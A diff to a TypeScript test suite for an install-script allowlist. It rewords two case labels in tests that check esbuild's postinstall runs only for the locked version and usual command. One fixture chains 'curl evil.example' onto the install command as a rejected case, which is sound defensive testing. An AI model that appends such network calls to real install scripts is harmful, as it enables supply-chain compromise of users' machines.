@@ -58,10 +58,10 @@ describe('install script allowlist', () => {
   const { version } = locked.find(({ name }) => name === 'esbuild')!;
   const usual = { postinstall: 'node install.js' };
   for (const [what, given, scripts, expected] of [
-    ['the named version and script', version, usual, true],
+    ['the listed version and script', version, usual, true],
     ['another version', '99.0.0', usual, false],
     ['another script', version, { postinstall: 'node install.js && curl evil.example' }, false],
-    ['a script more', version, { ...usual, preinstall: 'node other.js' }, false],
+    ['an additional script', version, { ...usual, preinstall: 'node other.js' }, false],
   ] as const)
     it(`${expected ? 'runs' : 'skips'} install scripts of ${what}`, () =>
       expect(isRun(given, scripts)).to.equal(expected));
